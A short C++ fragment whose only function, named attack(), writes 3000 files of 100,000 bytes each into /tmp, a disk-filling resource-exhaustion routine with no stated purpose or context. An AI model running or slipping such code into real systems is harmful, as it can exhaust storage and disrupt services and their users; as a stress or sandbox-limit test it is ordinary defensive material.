#include <fstream>
#include <string>

static void attack() {
  for (int i = 0; i < 3000; ++i)
    std::ofstream("/tmp/" + std::to_string(i)) << std::string(100000, 'x');
}
